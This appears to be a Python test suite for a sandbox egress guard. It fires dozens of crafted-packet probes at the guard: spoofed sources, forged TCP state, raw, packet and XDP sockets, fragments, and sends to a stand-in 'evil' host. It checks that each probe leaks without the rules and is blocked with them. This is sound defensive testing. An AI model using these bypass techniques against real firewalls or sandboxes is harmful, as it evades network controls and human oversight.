#!/usr/bin/env python3
"""Attacks on the kernel's rules, each seen to get through without them and refused with them.

Run as root with Docker's default capabilities (CAP_NET_RAW among them) and as nobody. What left is
what a tap behind the box saw. A probe counts only if it left in the control column, where our tables
and sockets are gone. Bed: guardbed.py; rules: guard.py.
"""
import json
import os
import re
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import guardbed  # noqa: E402
from guardbed import (BOX, DENIED, EVIL, GOOD, GUARD_UID, META, NOBODY, ROUTER, TCP, UDP,  # noqa: E402
                      WORKER_UID, Agent, Failed, Guard, Inside, Skip, entry, until)

POLICY = [entry("allow", GOOD[4]), entry("allow", GOOD[6]), entry("deny", META[4]),
          entry("deny", META[6]), entry("deny", DENIED[4]), entry("deny", DENIED[6]),
          entry("allow", "198.18.91.0/24", proto=TCP, ports=7100),
          entry("inspect", ports=80), entry("inspect", ports=443)]

PRELUDE = """
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
p4 = lambda a: socket.inet_pton(socket.AF_INET, a)
p6 = lambda a: socket.inet_pton(socket.AF_INET6, a)
def p(a):
    return p6(a) if ":" in a else p4(a)
def sum16(b):
    b += b"\\0" * (len(b) % 2)
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def ip(src, dst, proto, data, frag=0, options=b"", ident=7):
    if ":" in dst:
        return struct.pack("!IHBB", 6 << 28, len(data), proto, 64) + p6(src) + p6(dst) + data
    n = 20 + len(options)
    head = struct.pack("!BBHHHBBH", 0x40 | n // 4, 0, n + len(data), ident, frag, 64, proto, 0)
    head += p4(src) + p4(dst) + options
    return head[:10] + struct.pack("!H", sum16(head)) + head[12:] + data
def whole(src, dst, proto, data, at):
    # with the checksum over the pseudo header, at this offset
    pseudo = p(src) + p(dst) + struct.pack("!IHBB", len(data), 0, 0, proto)
    c = sum16(pseudo + data) or 0xffff
    return data[:at] + struct.pack("!H", c) + data[at + 2:]
def udp(src, dst, sport, dport, data):
    return whole(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6)
def tcp(src, dst, sport, dport, flags, data=b"", seq=1, ack=1):
    return whole(src, dst, 6, struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 1000,
                                          0, 0) + data, 16)
def icmp(src, dst, kind, code, data):
    if ":" in dst:
        return whole(src, dst, 58, struct.pack("!BBH", kind, code, 0) + data, 2)
    m = struct.pack("!BBH", kind, code, 0) + data
    return m[:2] + struct.pack("!H", sum16(m)) + m[4:]
def raw(packet, dst):
    s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, socket.SOCK_RAW, 255)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(packet, (dst, 0))
def send_udp(dst, port, data, sport=0, **o):
    s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, socket.SOCK_DGRAM)
    for (level, name), value in o.get("options", {}).items():
        s.setsockopt(level, name, value)
    s.bind(("", sport))
    s.sendto(data, (dst, port))
def syn(dst, port, kind=socket.SOCK_STREAM, proto=0):
    s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, kind, proto)
    s.settimeout(0.3)
    s.connect((dst, port))
def frame(device, kind, data, mac, vlan=b""):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((device, 0))
    s.send(mac + b"\\x02\\0\\0\\0\\0\\x01" + vlan + struct.pack("!H", kind) + data)
def xdp(device, data):
    s = socket.socket(44, socket.SOCK_RAW, 0)
    area = mmap.mmap(-1, 16384)
    area[:len(data)] = data
    at = ctypes.addressof(ctypes.c_char.from_buffer(area))
    s.setsockopt(283, 4, struct.pack("QQIII4x", at, 16384, 2048, 0, 0))
    for ring in (5, 6, 3):
        s.setsockopt(283, ring, 4)
    where = struct.unpack("16Q", s.getsockopt(283, 1, 128))
    tx = mmap.mmap(s.fileno(), where[6] + 4 * 16, mmap.MAP_SHARED | mmap.MAP_POPULATE,
                   mmap.PROT_READ | mmap.PROT_WRITE, offset=0x80000000)
    address = struct.pack("HHIII", 44, 2, socket.if_nametoindex(device), 0, 0)
    if libc.bind(s.fileno(), address, len(address)) != 0:
        raise OSError(ctypes.get_errno(), "bind of AF_XDP")
    tx[where[6]:where[6] + 16] = struct.pack("QII", 0, len(data), 0)
    tx[where[4]:where[4] + 4] = struct.pack("I", 1)
    libc.send(s.fileno(), b"", 0, 0x40)
    keep.append((s, area, tx))
keep = []
"""
PROBES = []
GROUP = "addresses"


def probe(name, code, user="root", seen=None, families=(4, 6)):
    """code with {src} {good} {evil} {denied} {meta} {mac} and T; seen(frame, addresses): what left,
    the token if None."""
    for f in families:
        PROBES.append((f"{name}-v{f}" if len(families) > 1 else name, f, user, code, seen, GROUP))


def segment(data, addr):
    """The TCP segment of a frame to that address, or None."""
    a = socket.inet_pton(socket.AF_INET6 if ":" in addr else socket.AF_INET, addr)
    if len(a) == 4 and data[12:14] == b"\x08\x00" and data[30:34] == a and data[23] == TCP:
        return data[34:]
    if len(a) == 16 and data[12:14] == b"\x86\xdd" and data[38:54] == a and data[20] == TCP:
        return data[54:]
    return None


def opens(port, *who):
    """A SYN to that address and port. Not any segment: a flow of the worker's own that a probe has
    desynchronised says its FIN again for half a minute, and may."""
    def check(data, where):
        found = [s for w in who if (s := segment(data, where[w]))]
        return any(int.from_bytes(s[2:4], "big") == port and s[13] & 2 for s in found)
    return check


# Addresses, ports and names of others.
probe("tcp-literal", "syn({evil!r}, 5000)", "nobody", opens(5000, "evil"))
probe("udp-literal", "send_udp({evil!r}, 5000, T)", "nobody")
probe("icmp-echo", "raw(ip({src!r}, {evil!r}, {icmp}, icmp({src!r}, {evil!r}, {echo}, 0, b'\\0' * 4 + T)), {evil!r})")
probe("v4-mapped", "send_udp('::ffff:' + {evil!r}, 5000, T)", "nobody", families=(4,))
probe("other-resolver-udp", "send_udp({good!r}, 53, T)", "nobody")
probe("other-resolver-tcp", "syn({good!r}, 53)", "nobody", opens(53, "good"))
probe("dns-over-tls", "syn({good!r}, 853)", "nobody", opens(853, "good"))
probe("dns-over-quic", "send_udp({good!r}, 853, T)", "nobody")
probe("quic", "send_udp({good!r}, 443, T)", "nobody")
probe("web-not-inspected", "syn({good!r}, 443)", "nobody", opens(443, "good"))
probe("raw-syn-to-inspected-port", "raw(ip({src!r}, {good!r}, 6, tcp({src!r}, {good!r}, 6001, 80, 2, T)), {good!r})")
probe("denied-inside-allowed", "send_udp({denied!r}, 5000, T)", "nobody")
probe("metadata", "send_udp({meta!r}, 80, T)", "nobody")
probe("metadata-by-our-own-socket", "send_udp({meta!r}, 80, T)", "worker")
probe("fast-open-data-in-syn", """
s = socket.socket(socket.AF_INET6 if {f} == 6 else socket.AF_INET)
s.settimeout(0.3)
s.sendto(T, socket.MSG_FASTOPEN, ({evil!r}, 5000))""", "nobody", opens(5000, "evil"))
probe("mptcp", "syn({evil!r}, 5000, socket.SOCK_STREAM, 262)", "nobody", opens(5000, "evil"))
probe("udp-lite", """
s = socket.socket(socket.AF_INET6 if {f} == 6 else socket.AF_INET, socket.SOCK_DGRAM, 136)
s.sendto(T, ({good!r}, 5000))""", "nobody")
probe("broadcast", "send_udp('255.255.255.255', 5000, T, options={{(1, socket.SO_BROADCAST): 1}})", "nobody", families=(4,))
probe("multicast", "send_udp({multicast!r}, 5000, T, options={{(socket.IPPROTO_IPV6, 17): socket.if_nametoindex('wan')}} if {f} == 6 else {{}})", "nobody")
# Rights and marks of others.
GROUP = "rights"
probe("uid-of-the-worker", "os.setuid(10042) or send_udp({evil!r}, 5000, T)", "once")
probe("uid-of-the-guard", "os.setuid(10043) or send_udp({evil!r}, 5000, T)", "once")
probe("every-socket-mark-of-upstream", "send_udp({evil!r}, 5000, T, options={{(1, socket.SO_MARK): 1}})")
probe("marks-of-the-rules", """
for mark in {marks}:
    send_udp({evil!r}, 5000, T, options={{(1, socket.SO_MARK): mark}})""")
# Forged sources, forged state.
GROUP = "forged"
probe("answer-to-a-forged-question", """
raw(ip({evil!r}, {src!r}, 17, udp({evil!r}, {src!r}, 5000, 6002, b'x')), {src!r})
send_udp({evil!r}, 5000, T, sport=6002)""")
probe("answer-to-a-forged-syn", """
raw(ip({evil!r}, {src!r}, 6, tcp({evil!r}, {src!r}, 5000, 6003, 2)), {src!r})
raw(ip({src!r}, {evil!r}, 6, tcp({src!r}, {evil!r}, 6003, 5000, 16, T)), {evil!r})""")
probe("answer-to-a-forged-ping", """
raw(ip({evil!r}, {src!r}, {icmp}, icmp({evil!r}, {src!r}, {echo}, 0, b'\\0\\7\\0\\1')), {src!r})
raw(ip({src!r}, {evil!r}, {icmp}, icmp({src!r}, {evil!r}, {echo_reply}, 0, b'\\0\\7\\0\\1' + T)), {evil!r})""")
probe("reversed-spoof-udp", """
raw(ip({evil!r}, {good!r}, 17, udp({evil!r}, {good!r}, 5000, 6004, b'x')), {good!r})
raw(ip({good!r}, {evil!r}, 17, udp({good!r}, {evil!r}, 6004, 5000, T)), {evil!r})""")
probe("reversed-spoof-tcp", """
raw(ip({evil!r}, {good!r}, 6, tcp({evil!r}, {good!r}, 5000, 6005, 2)), {good!r})
raw(ip({good!r}, {evil!r}, 6, tcp({good!r}, {evil!r}, 6005, 5000, 18, T)), {evil!r})""")
probe("reversed-spoof-icmp", """
raw(ip({evil!r}, {good!r}, {icmp}, icmp({evil!r}, {good!r}, {echo}, 0, b'\\0\\7\\0\\1')), {good!r})
raw(ip({good!r}, {evil!r}, {icmp}, icmp({good!r}, {evil!r}, {echo_reply}, 0, b'\\0\\7\\0\\1' + T)), {evil!r})""")
probe("foreign-source-to-allowed", "raw(ip({evil!r}, {good!r}, 17, udp({evil!r}, {good!r}, 1, 5000, T)), {good!r})")
probe("transparent-source-to-allowed", """
s = socket.socket(socket.AF_INET6 if {f} == 6 else socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(*((41, 75, 1) if {f} == 6 else (0, 19, 1)))
s.bind(({evil!r}, 6020))
s.sendto(T, ({good!r}, 5000))""")
probe("free-source-to-allowed", """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.setsockopt(41, 78, 1)
s.bind(({evil!r}, 6021))
s.sendto(T, ({good!r}, 5000))""", "nobody", families=(6,))
probe("header-not-where-it-is-routed", "raw(ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6022, 5000, T)), {good!r})")
probe("header-not-where-it-is-routed-by-lo", "raw(ip({good!r}, {evil!r}, 17, udp({good!r}, {evil!r}, 6023, 5000, T)), '::1')", families=(6,))
probe("resolver-port-taken", "send_udp({evil!r}, 53, T, sport={own_port})", "nobody")
probe("segment-into-our-flow", "raw(ip({src!r}, {evil!r}, 6, tcp({src!r}, {evil!r}, {live_port}, 5000, 24, T, {seq}, {ack})), {evil!r})")
probe("reset-into-our-flow", "raw(ip({src!r}, {evil!r}, 6, tcp({src!r}, {evil!r}, {live_port}, 5000, 20, T, {seq}, {ack})), {evil!r})")
probe("icmp-error-about-our-flow", """
inner = ip({evil!r}, {src!r}, 6, tcp({evil!r}, {src!r}, 5000, {live_port}, 16))
raw(ip({src!r}, {evil!r}, {icmp}, icmp({src!r}, {evil!r}, {unreach}, 3, b'\\0' * 4 + inner + T)), {evil!r})""")
probe("icmp-error-to-a-stranger", """
inner = ip({evil!r}, {src!r}, 17, udp({evil!r}, {src!r}, 5000, 6006, b'x'))
raw(ip({src!r}, {evil!r}, {icmp}, icmp({src!r}, {evil!r}, {unreach}, 3, b'\\0' * 4 + inner + T)), {evil!r})""")
probe("syn-to-the-own-broadcast", """
raw(ip({src!r}, '198.18.91.255', 6, tcp({src!r}, '198.18.91.255', 5000, 7100, 2)), '198.18.91.255')
raw(ip({src!r}, {evil!r}, 6, tcp({src!r}, {evil!r}, 7100, 5000, 16, T)), {evil!r})""", families=(4,))
# Packets that are judged too early, too late or not at all.
GROUP = "packets"
for what, flags in (("syn-ack", 18), ("syn-fin", 3), ("null", 0), ("christmas", 41), ("ack", 16), ("rst", 4)):
    probe(f"invalid-tcp-{what}", f"raw(ip({{src!r}}, {{good!r}}, 6, tcp({{src!r}}, {{good!r}}, 6100 + {flags}, 443, {flags}, T)), {{good!r}})")
probe("first-fragment", "raw(ip({src!r}, {good!r}, 17, udp({src!r}, {good!r}, 6007, 53, T + b'x' * 16), frag=0x2000), {good!r})", families=(4,))
probe("later-fragment", """
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
s.setsockopt(0, 22, 1)
s.sendto(ip({src!r}, {good!r}, 17, T + b'x' * 8, frag=0x0010), ({good!r}, 0))""", families=(4,))
probe("fragment-header", "raw(ip({src!r}, {good!r}, 44, b'\\x11\\0\\0\\x01\\0\\0\\0\\7' + udp({src!r}, {good!r}, 6008, 5000, T)), {good!r})", families=(6,))
for what, kind, head in (("routing-header", 43, "b'\\x11\\0\\4\\0\\0\\0\\0\\0'"), ("destination-options", 60, "b'\\x11\\0\\1\\4\\0\\0\\0\\0'"), ("hop-by-hop", 0, "b'\\x11\\0\\1\\4\\0\\0\\0\\0'")):
    probe(what, f"raw(ip({{src!r}}, {{good!r}}, {kind}, {head} + udp({{src!r}}, {{good!r}}, 6009, 5000, T)), {{good!r}})", families=(6,))
probe("loose-source-route", "send_udp({good!r}, 5000, T, options={{(0, socket.IP_OPTIONS): b'\\x83\\7\\4' + p4({evil!r}) + b'\\0'}})", families=(4,))
probe("record-route-raw", "raw(ip({src!r}, {good!r}, 17, udp({src!r}, {good!r}, 6010, 5000, T), options=b'\\7\\7\\4\\0\\0\\0\\0\\0'), {good!r})", families=(4,))
for proto in (2, 4, 33, 41, 47, 50, 51, 103, 132, 136, 255):
    probe(f"protocol-{proto}", f"raw(ip({{src!r}}, {{good!r}}, {proto}, T * 4), {{good!r}})", families=(4, 6) if proto in (33, 41, 47, 50, 132) else (4,))
for what, kind in (("router-solicitation", 133), ("neighbour-solicitation", 135), ("neighbour-advertisement", 136)):
    probe(what, f"raw(ip({{src!r}}, {{evil!r}}, 58, icmp({{src!r}}, {{evil!r}}, {kind}, 0, b'\\0' * 4 + p6({{evil!r}}) + T)), {{evil!r}})", families=(6,))
# What the kernel itself sends to the link, with a text that somebody without any right chose.
# The kernel repeats itself, so what is looked for is this attempt's own.
probe("group-joined", """
s = socket.socket(socket.AF_INET6 if {f} == 6 else socket.AF_INET, socket.SOCK_DGRAM)
if {f} == 6:
    s.setsockopt(41, 20, b"\\xff\\x1e" + T[:11] + bytes(3) + struct.pack("I", socket.if_nametoindex("wan")))
else:
    s.setsockopt(0, 35, b"\\xef" + T[1:4] + p4({src!r}))
time.sleep(0.1)""", "nobody", lambda d, w: b"\xff\x1e" + w["token"][:11] in d if w["f"] == 6 else d[23] == 2 and b"\xef" + w["token"][1:4] in d)
probe("neighbour-asked-for", """
try:
    send_udp(f"198.18.91.{{T[1]}}" if {f} == 4 else socket.inet_ntop(socket.AF_INET6, p6("fd00:198:91::")[:8] + T[:8]), 5000, b"x")
except OSError:
    pass
time.sleep(0.1)""", "nobody", lambda d, w: d[12:14] == b"\x08\x06" and d[38:42] == bytes((198, 18, 91, w["token"][1])) if w["f"] == 4 else d[20] == 58 and d[54:55] == b"\x87" and d[62:78].endswith(w["token"][:8]))
probe("neighbour-poisoned", "raw(ip({src!r}, {router!r}, 58, icmp({src!r}, {router!r}, 136, 0, b'\\x20\\0\\0\\0' + p6({src!r}) + T)), {router!r})", families=(6,))
# Past the rules: devices.
GROUP = "devices"
probe("bound-to-a-device-dns", "send_udp({good!r}, 53, T, options={{(1, socket.SO_BINDTODEVICE): b'wan'}})", "nobody")
probe("bound-to-a-device-web", """
s = socket.socket(socket.AF_INET6 if {f} == 6 else socket.AF_INET)
s.setsockopt(1, socket.SO_BINDTODEVICE, b'wan')
s.settimeout(0.3)
s.connect(({good!r}, 443))""", "nobody", lambda d, w: any(opens(port, "good", "loopback")(d, w) for port in (443, guardbed.WEB)))
probe("packet-socket-ip", "frame('wan', {ether}, ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6011, 5000, T)), {mac!r})")
probe("packet-socket-vlan", "frame('wan', {ether}, ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6012, 5000, T)), {mac!r}, b'\\x81\\0\\0\\0')")
probe("packet-socket-arp-payload", "frame('wan', 0x806, struct.pack('!HHBBH', 1, 0x800, 6, 4, 1) + b'\\0' * 20 + T, b'\\xff' * 6)", families=(4,))
for what, kind in (("any", 0x88b5), ("mpls", 0x8847), ("pppoe", 0x8864), ("llc", 0x30)):
    probe(f"packet-socket-{what}", f"frame('wan', {kind}, T * 3, {{mac!r}})", families=(4,))
probe("packet-socket-dgram", """
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
s.sendto(ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6013, 5000, T)), ('wan', {ether}, 0, 0, {mac!r}))""")
probe("packet-socket-past-the-queue", """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 20, 1)
s.bind(('wan', 0))
s.send({mac!r} + b'\\x02\\0\\0\\0\\0\\1' + struct.pack('!H', {ether}) + ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6024, 5000, T)))""")
probe("packet-socket-with-offload-header", """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 15, 1)
s.bind(('wan', 0))
s.send(bytes(10) + {mac!r} + b'\\x02\\0\\0\\0\\0\\1' + struct.pack('!H', {ether}) + ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6025, 5000, T)))""")
probe("packet-socket-ring", """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 10, 1)
s.setsockopt(263, 13, struct.pack('IIII', 4096, 1, 2048, 2))
s.bind(('wan', 0))
data = {mac!r} + b'\\x02\\0\\0\\0\\0\\1' + struct.pack('!H', {ether}) + ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6026, 5000, T))
ring = mmap.mmap(s.fileno(), 4096)
ring[32:32 + len(data)] = data
ring[4:8] = struct.pack('I', len(data))
ring[0:4] = struct.pack('I', 1)
s.send(b'')""", "once")
probe("packet-socket-on-lo-past-the-queue", """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 20, 1)
s.bind(('lo', 0))
s.send(b'\\0' * 12 + struct.pack('!H', {ether}) + ip({good!r}, {evil!r}, 17, udp({good!r}, {evil!r}, 6027, 5000, T)))""")
probe("packet-socket-on-lo-forwarded", "frame('lo', {ether}, ip({good!r}, {evil!r}, 17, udp({good!r}, {evil!r}, 6014, 5000, T)), b'\\0' * 6)")
probe("xdp-on-the-device", "xdp('wan', {mac!r} + b'\\x02\\0\\0\\0\\0\\1' + struct.pack('!H', {ether}) + ip({src!r}, {evil!r}, 17, udp({src!r}, {evil!r}, 6015, 5000, T)))", "once")
probe("xdp-on-lo-forwarded", "xdp('lo', b'\\0' * 12 + struct.pack('!H', {ether}) + ip({good!r}, {evil!r}, 17, udp({good!r}, {evil!r}, 6016, 5000, T)))", "once")


class Battery:
    def __init__(self, bed):
        self.bed, self.agents = bed, {}
        with Inside(bed.net):
            link = json.loads(guardbed.run("ip", "-j", "link", "show", "lan"))[0]
        self.mac = bytes.fromhex(link["address"].replace(":", ""))

    def agent(self, user):
        if user == "once" or user not in self.agents:
            uid = {"nobody": NOBODY, "worker": WORKER_UID}.get(user, 0)
            a = self.bed.sidecar() if user == "worker" else Agent(self.bed, uid)
            a.do(PRELUDE)
            if user == "once":
                return a
            self.agents[user] = a
        return self.agents[user]

    def live(self, f):
        """A flow of the worker to EVIL, and a port that a socket of its has left."""
        code = f"""
family = socket.AF_INET6 if {f} == 6 else socket.AF_INET
live = socket.socket(family); live.settimeout(2); live.connect(({EVIL[f]!r}, 5000))
live.sendall(b"hello"); live.recv(10)
u = socket.socket(family, socket.SOCK_DGRAM); u.settimeout(2); u.bind(("", 0))
u.sendto(b"q", ({EVIL[f]!r}, 53)); u.recv(10)
left = u.getsockname()[1]; u.close()
kept.append(live)
result = [live.getsockname()[1], left]
"""
        worker = self.agent("worker")
        worker.do("kept = []")
        self.bed.tap.clear()
        port, left = worker.do(code)
        time.sleep(0.05)
        with self.bed.tap.lock:
            sent = [s for d in self.bed.tap.frames
                    if (s := segment(d, EVIL[f])) and int.from_bytes(s[:2], "big") == port]
        d = sent[-1]
        return {"live_port": port, "own_port": left,
                "seq": int.from_bytes(d[4:8], "big"), "ack": int.from_bytes(d[8:12], "big")}

    def where(self, f, code):
        """What stands in braces in the text of a probe."""
        where = {"loopback": "::1" if f == 6 else "127.0.0.1", "src": BOX[f], "good": GOOD[f], "evil": EVIL[f], "denied": DENIED[f],
                 "meta": META[f], "router": ROUTER[f], "mac": self.mac, "f": f,
                 "icmp": 58 if f == 6 else 1, "echo": 128 if f == 6 else 8,
                 "echo_reply": 129 if f == 6 else 0, "unreach": 1 if f == 6 else 3,
                 "ether": 0x86dd if f == 6 else 0x800,
                 "multicast": "ff02::1:5" if f == 6 else "224.0.0.251", "marks": self.marks()}
        if "{own_port}" in code or "{live_port}" in code:
            where.update(self.live(f))
        return where

    def shoot(self, row, token):
        """One probe: (frames that left, what the sandbox was told)."""
        _, f, user, code, seen, _ = row
        where, agent = self.where(f, code), self.agent(user)
        where["token"] = token
        self.bed.tap.clear()
        try:
            agent.do(f"T = {token!r}\n" + code.format(**where))
            why = "sent"
        except OSError as e:
            why = str(e).replace("[Errno 0] ", "")
        time.sleep(0.03)
        if user == "once":  # what it holds, such as a queue, must not last
            agent.process.kill()
            agent.process.wait()
        return self.bed.tap.has((lambda d: seen(d, where)) if seen else token), why

    def run(self, column, group):
        """{name: frames that left}."""
        out, why = {}, {}
        for number, row in enumerate(PROBES):
            name = row[0]
            if row[5] != group or ONLY and name not in ONLY:
                continue
            out[name], why[name] = self.shoot(row, f"<{column}{number:03}probe>".encode())
        return out, why

    def marks(self):
        text = self.bed.nft("list", "table", "inet", "opensandbox", check=False)
        found = sorted({int(m, 16) for m in re.findall(r"ct mark (?:set )?0x([0-9a-f]+)", text)})
        return found or [1]


ONLY = os.environ.get("PROBES", "").split()


def loosen(bed):
    """The namespace as Docker and many hosts have it."""
    with Inside(bed.box):
        for line in ("net.ipv4.ip_forward", "net.ipv6.conf.all.forwarding"):
            guardbed.run("sysctl", "-qw", f"{line}=1")
        # Forged packets are not stopped by the way back.
        for name in ("all", "wan", "lo"):
            guardbed.run("sysctl", "-qw", f"net.ipv4.conf.{name}.rp_filter=0")
            guardbed.run("sysctl", "-qw", f"net.ipv4.conf.{name}.accept_local=1", )


def guard_with_queues(bed):
    """The kernel frees the queue of a socket some time after its end; the guard takes it then."""
    bed.guard = Guard(bed)
    until(lambda: bed.guard.apply(POLICY) == 0 and bed.guard.state()["queues"] == ("in_place", 0),
          "every queue is the guard's")
    return bed.guard


def battery(bed, group):
    loosen(bed)
    bed.flush()
    b = Battery(bed)
    control, why_control = b.run("c", group)
    guard_with_queues(bed)
    loaded, why = b.run("l", group)
    return control, loaded, why_control, why


def attack(bed, group, least):
    """At least `least` probes of the group must count: this kernel was seen to let them out."""
    control, loaded, why_control, why = battery(bed, group)
    print(f"  {'probe':40} {'without':>7} {'with':>5}  what the sandbox was told with the rules")
    for name in control:
        print(f"  {name:40} {control[name]:7} {loaded[name]:5}  {why[name][:70]}"
              + (f" (without: {why_control[name][:70]})" if not control[name] else ""))
    counted = [n for n in control if control[n]]
    print(f"  {len(counted)} of {len(control)} probes count: "
          f"{sum(1 for n in counted if not loaded[n])} refused; not counted on "
          f"{os.uname().release}: {[n for n in control if not control[n]]}")
    through = [n for n in control if loaded[n]]
    if through:
        raise Failed(f"got through: {through}")
    if len(counted) < least and not ONLY:
        raise Failed(f"only {len(counted)} probes were seen to get through without the rules")


def case_addresses_and_ports_of_others(bed):
    attack(bed, "addresses", 30)


def case_rights_and_marks_of_others(bed):
    attack(bed, "rights", 6)


def case_forged_sources_and_states(bed):
    attack(bed, "forged", 20)


def case_packets_that_are_not_judged(bed):
    attack(bed, "packets", 30)


def case_past_the_rules_by_devices(bed):
    attack(bed, "devices", 15)


def with_and_without(bed, attempt, what):
    """attempt() tells how much got through: more than none without the rules, none with them."""
    bed.flush()
    free = attempt()
    bed.guard = Guard(bed)
    if bed.guard.apply(POLICY) != 0:
        raise Failed("apply")
    bed.sidecar()
    held = attempt()
    print(f"  {what}: {free} without, {held} with the rules")
    if not free:
        raise Failed(f"{what}: nothing got through without the rules")
    if held:
        raise Failed(f"{what}: {held} got through")


def case_answers_to_what_others_opened(bed):
    def attempt():
        seen = []
        # GOOD is allowed, but an answer to it would be on a flow that nobody judged.
        for f, addr in ((4, EVIL[4]), (6, EVIL[6]), (4, GOOD[4]), (6, GOOD[6])):
            family = socket.AF_INET6 if f == 6 else socket.AF_INET
            server = Agent(bed, NOBODY)
            server.do(f"s = socket.socket({int(family)}, 2); s.bind(('', 7200)); s.settimeout(1)")
            with Inside(bed.net):
                # A neighbour is asked for from an address of that link only.
                socket.socket(family, socket.SOCK_DGRAM).sendto(b"hello", (BOX[f], 9))
                time.sleep(0.1)
                u = socket.socket(family, socket.SOCK_DGRAM)
                u.bind((addr, 7201))
                u.sendto(b"ask", (BOX[f], 7200))
            bed.tap.clear()
            try:
                server.do("d, w = s.recvfrom(10); s.sendto(b'<the answer>', w)")
            except OSError:
                pass
            time.sleep(0.05)
            seen.append(bed.tap.has(b"<the answer>"))
            server.process.kill()
            server.process.wait()
        return sum(seen)
    with_and_without(bed, attempt, "answers to UDP that others began")


def case_conntrack_is_not_filled_from_lo(bed):
    """Raw packets on lo, from our listeners' ports too: entries that they leave."""
    def attempt():
        agent = Agent(bed, 0)
        agent.do(PRELUDE)
        before = entries()
        agent.do("""
for i in range(3000):
    a, b = f"127.{1 + i // 250}.0.{1 + i % 250}", "127.0.0.1"
    for sport, proto in ((1000 + i, 17), (15353, 17), (18081, 6), (15353, 6), (2000 + i, 6)):
        try:
            raw(ip(a, b, proto, udp(a, b, sport, 9, b"x") if proto == 17 else
                   tcp(a, b, sport, 10 + i, 16, b"x")), b)
        except OSError:
            pass
""")
        agent.process.kill()
        return max(0, entries() - before - 50)

    def entries():
        with Inside(bed.box):
            return int(open("/proc/sys/net/netfilter/nf_conntrack_count").read())
    bed.flush()
    # Conntrack works only where some rule asks for it: the control has one that does.
    bed.nft("-f", "-", text="table inet other { chain c { type filter hook output priority 0; "
            "ct state new counter; }; }")
    with_and_without(bed, attempt, "conntrack entries of 15,000 packets on lo")
    bed.nft("delete", "table", "inet", "other")
    with Inside(bed.net):
        api = socket.create_connection((BOX[4], guardbed.API), 2)
    if api.recv(4) != b"own:":
        raise Failed("the API does not answer")


def case_queues_are_held_while_the_guard_is_dead(bed):
    def attempt():
        got = 0
        agent = Agent(bed, 0)
        agent.do(PRELUDE)
        for device in ("wan", "lo"):
            try:
                agent.do(f"xdp({device!r}, b'x' * 60)")
                got += 1
            except OSError:
                pass
        agent.process.kill()
        agent.process.wait()
        return got

    bed.flush()
    if not attempt():
        raise Failed("no queue could be taken without us")
    guard = guard_with_queues(bed)
    guard.kill()
    if attempt():
        raise Failed("a queue was taken while the guard was dead")
    bed.guard = Guard(bed, held=guard.copies)
    if bed.guard.apply(POLICY) != 0 or bed.guard.state()["queues"] != ("in_place", 0):
        raise Failed(f"after the restart: {bed.guard.state()}")


def case_a_queue_taken_before_us_is_an_alarm(bed):
    bed.flush()
    agent = Agent(bed, 0)
    agent.do(PRELUDE)
    agent.do("xdp('wan', b'x' * 60)")
    bed.guard = Guard(bed)
    if bed.guard.apply(POLICY) != 0:
        raise Failed("apply")
    state = bed.guard.state()
    agent.process.kill()
    agent.process.wait()
    if (state["queues"][0], state["taken"], state["held"]) != ("lost", 1, 1):
        raise Failed(f"{state}")


def case_marks_of_a_guard_before_do_not_pass(bed):
    """A flow that an older ruleset allowed, after the guard has been killed and started anew."""
    bed.flush()
    bed.guard = Guard(bed)
    wide = POLICY + [entry("allow", EVIL[4])]
    if bed.guard.apply(wide) != 0:
        raise Failed("apply")
    nobody = Agent(bed, NOBODY)
    nobody.do(f"s = socket.socket(socket.AF_INET, 2); s.connect(({EVIL[4]!r}, 5000)); s.send(b'1')")
    bed.guard.kill()
    nobody.do("s.send(b'<still allowed>')")
    time.sleep(0.05)
    if not bed.tap.has(b"<still allowed>"):
        raise Failed("the rules did not outlive the guard")
    bed.guard = Guard(bed, held=bed.guard.copies)
    if bed.guard.apply(POLICY) != 0:
        raise Failed("apply")
    try:
        nobody.do("s.send(b'<not any more>')")
    except OSError:
        pass
    time.sleep(0.05)
    if bed.tap.has(b"<not any more>"):
        raise Failed("a flow of the ruleset before the restart goes on")


if __name__ == "__main__":
    guardbed.main(globals())
